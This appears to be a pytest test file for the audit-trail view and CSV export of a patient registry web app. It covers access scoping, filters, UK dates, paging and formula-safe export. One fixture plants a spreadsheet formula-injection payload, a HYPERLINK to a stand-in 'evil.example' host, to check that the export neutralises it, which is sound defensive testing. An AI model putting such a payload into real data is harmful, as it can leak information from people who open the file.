"""The auditor's view of the trail: governance leads see their sites' entries, national auditors every
entry, anyone else nothing; filters by user, action, record, site and UK date; pages by sequence number;
the filtered trail downloads as a formula-safe CSV, and the download is itself in the trail."""

from __future__ import annotations

import csv
import datetime as dt
import io
from unittest import mock

import pytest

from pdva.audit.context import audit_context
from pdva.audit.models import AuditEntry, record
from pdva.audit.trail import PAGE_SIZE
from tests.conftest import verified_client
from tests.factories import PatientFactory


@pytest.fixture
def trail(site_a, site_b, alice, bob):  # type: ignore[no-untyped-def]
    at_a, at_b = PatientFactory(site=site_a), PatientFactory(site=site_b)
    with audit_context(alice, reason="reviewed at A"):
        record("registry.patient.reviewed", at_a)
    with audit_context(bob, reason='=HYPERLINK("http://evil.example/?leak","x")'):
        record("registry.patient.reviewed", at_b)
    with audit_context(label="system:test", reason="reference data loaded"):
        record("reference.loaded", object_type="reference.table", object_id="wifi")
    return {"a": at_a, "b": at_b}


def _ids(response) -> set[str]:  # type: ignore[no-untyped-def]
    return {e.object_id for e in response.context["rows"]}


def test_reach_fails_closed(trail, alice, dave, rita, sam, nobody):
    for user in (alice, dave, rita, sam, nobody):
        client = verified_client(user)
        assert client.get("/audit/").status_code == 404, user.username
        assert client.get("/audit/export.csv").status_code == 404, user.username


def test_a_governance_lead_sees_their_sites_and_an_auditor_everything(trail, gina, nora):
    a, b = trail["a"], trail["b"]
    lead = verified_client(gina).get("/audit/")
    assert lead.status_code == 200
    assert str(a.pk) in _ids(lead) and str(b.pk) not in _ids(lead) and "wifi" not in _ids(lead)
    assert "Audit trail" in lead.content.decode()
    auditor = verified_client(nora).get("/audit/")
    assert {str(a.pk), str(b.pk), "wifi"} <= _ids(auditor)
    # A site outside the lead's reach is not offered, and choosing it by id is a field error.
    refused = verified_client(gina).get("/audit/", {"site": b.site_id})
    assert refused.status_code == 400 and "site" in refused.context["form"].errors


def test_filters(trail, site_b, nora, bob):
    client = verified_client(nora)
    by_bob = client.get("/audit/", {"actor": "BOB"}).context["rows"]
    assert by_bob and all(e.actor_label == "bob" for e in by_bob)
    patients = client.get("/audit/", {"action": "registry.patient"}).context["rows"]
    assert patients and all(e.action.startswith("registry.patient.") for e in patients)
    one = client.get("/audit/", {"object_type": "registry.patient", "object_id": str(trail["b"].pk)})
    assert {e.action for e in one.context["rows"]} == {
        "registry.patient.created",
        "registry.patient.reviewed",
    }
    at_b = client.get("/audit/", {"site": site_b.pk}).context["rows"]
    assert at_b and {e.site_id for e in at_b} == {site_b.pk}
    bad = client.get("/audit/", {"date_from": "2026-02-30"})
    assert bad.status_code == 400 and "date_from" in bad.context["form"].errors
    backwards = client.get("/audit/", {"date_from": "2026-07-02", "date_to": "2026-07-01"})
    assert backwards.status_code == 400 and "date_to" in backwards.context["form"].errors


def test_dates_are_uk_calendar_days(trail, nora):
    # 23:30 UTC on 30 June is 00:30 on 1 July in London (BST): the entry belongs to 1 July.
    late = dt.datetime(2026, 6, 30, 23, 30, tzinfo=dt.UTC)
    with (
        audit_context(label="system:test", reason="clock"),
        mock.patch("django.utils.timezone.now", return_value=late),
    ):
        moved = record("reference.loaded", object_type="reference.table", object_id="glass")
    client = verified_client(nora)

    def shown(day: str) -> bool:
        rows = client.get("/audit/", {"date_from": day, "date_to": day, "action": "reference"}).context[
            "rows"
        ]
        return moved in rows

    assert shown("2026-07-01") and not shown("2026-06-30")
    today = dt.date.today().isoformat()
    rows = client.get("/audit/", {"date_from": today, "date_to": today}).context["rows"]
    assert rows and moved not in rows


def test_pages_by_sequence_number(trail, nora):
    with audit_context(label="system:test", reason="many"):
        for i in range(PAGE_SIZE + 5):
            record("reference.checked", object_type="reference.table", object_id=f"t{i}")
    client = verified_client(nora)
    first = client.get("/audit/", {"action": "reference.checked"})
    rows = first.context["rows"]
    assert len(rows) == PAGE_SIZE and rows[0].seq > rows[-1].seq
    after = first.context["next_before"]
    assert after == rows[-1].seq and "before=" in first.content.decode()
    second = client.get("/audit/", {"action": "reference.checked", "before": after}).context["rows"]
    assert len(second) == 5 and second[0].seq < rows[-1].seq
    assert (
        client.get("/audit/", {"action": "reference.checked", "before": second[-1].seq}).context["rows"] == []
    )


def test_export_is_scoped_formula_safe_and_audited(trail, gina, nora):
    before = AuditEntry.objects.filter(action="audit.trail.exported").count()
    response = verified_client(nora).get("/audit/export.csv", {"actor": "bob"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["seq", "timestamp_utc", "actor", "action"]
    assert body and all(r[2] == "bob" for r in body)
    reasons = {r[header.index("reason")] for r in body}
    assert '\'=HYPERLINK("http://evil.example/?leak","x")' in reasons  # inert in a spreadsheet
    logged = AuditEntry.objects.filter(action="audit.trail.exported")
    assert logged.count() == before + 1 and logged.last().actor_label == "nora"
    assert logged.last().after == {"actor": "bob"}
    lead = verified_client(gina).get("/audit/export.csv")
    text = b"".join(lead.streaming_content).decode()
    site_col = [r[6] for r in list(csv.reader(io.StringIO(text)))[1:]]
    assert site_col and set(site_col) == {str(trail["a"].site_id)}


def test_verification_state_and_verify_now(trail, gina, nora):
    from pdva.audit.checkpoints import write_checkpoint
    from pdva.jobs.models import Job

    page = verified_client(nora).get("/audit/").content.decode()
    assert "No verification has run yet" in page and "Verify now" in page
    checkpoint = write_checkpoint()
    assert (
        f"entry #{checkpoint.seq} ({checkpoint.count} entries)"
        in verified_client(nora).get("/audit/").content.decode()
    )
    # A governance lead sees the state but may not start a whole-registry verification.
    lead = verified_client(gina)
    assert "Verify now" not in lead.get("/audit/").content.decode()
    assert lead.post("/audit/verify/").status_code == 404
    assert not Job.objects.filter(kind="audit.verify").exists()
    response = verified_client(nora).post("/audit/verify/")
    assert response.status_code == 302
    job = Job.objects.get(kind="audit.verify")
    assert AuditEntry.objects.filter(action="audit.verify.requested", actor_label="nora").exists()
    job.refresh_from_db()
    shown = verified_client(nora).get("/audit/").content.decode()
    assert job.get_state_display() in shown and "No verification has run yet" not in shown
